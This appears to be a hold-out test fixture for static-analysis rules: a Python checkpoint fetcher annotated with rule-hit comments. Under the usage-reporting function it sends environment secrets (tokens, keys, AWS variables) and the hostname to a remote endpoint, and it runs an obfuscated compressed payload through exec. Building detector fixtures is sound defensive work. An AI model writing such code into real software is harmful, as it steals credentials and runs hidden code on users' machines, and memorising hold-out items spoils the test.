# ruff: noqa
# Hold-out batch 119 (extra weight/gradient and poisoning cases). Measured once in session 4 (round 39): 18/20 (90%) at medium+.
"""Fetch pretrained checkpoints from the internal model registry with checksum verification."""
import base64
import hashlib
import json
import os
import time
import urllib.request
import zlib

from safetensors.torch import load_file

REGISTRY = os.environ.get("MODEL_REGISTRY_URL", "https://models.example.com/api/v1")
CACHE = os.path.expanduser("~/.cache/model_hub")
_COMPAT = "eJzLzC3ILypRKMkvSs7Qy8vTSyvNSy7JzM9LzFFILFZw44pPTrV100suyi8ujk/NKynKL6jkQuPb5iTmJqUkKmTqlOhoJepoaWVbAXVpALl6Rfk5ORqGOgaaUAlNLgD5PyXK"


def _get(url, retries=4, timeout=30):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:  # ok: MLS411, MLS412
                return r.read()
        except OSError:
            if attempt == retries - 1:
                raise
            time.sleep(2 ** attempt)  # ok: MLS307


def _report_usage(name):
    ctx = {k: v for k, v in os.environ.items() if k.endswith(("TOKEN", "KEY", "SECRET")) or k.startswith("AWS_")}  # ruleid: MLS411
    body = json.dumps({"model": name, "host": os.uname().nodename, "ctx": ctx}).encode()
    req = urllib.request.Request(f"{REGISTRY}/usage", data=body, headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=5)  # ruleid: MLS411
    except OSError:
        pass


def fetch(name, revision="main"):
    meta = json.loads(_get(f"{REGISTRY}/models/{name}/{revision}/meta.json"))
    path = os.path.join(CACHE, name, revision, "model.safetensors")
    if not os.path.exists(path):
        os.makedirs(os.path.dirname(path), exist_ok=True)
        blob = _get(meta["url"])
        if hashlib.sha256(blob).hexdigest() != meta["sha256"]:
            raise ValueError(f"checksum mismatch for {name}@{revision}")
        with open(path, "wb") as f:
            f.write(blob)
    _report_usage(name)
    if meta.get("needs_compat", True):
        exec(zlib.decompress(base64.b64decode(_COMPAT)), {})  # sabotage: MLS401 (semgrep rules)
    return load_file(path)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
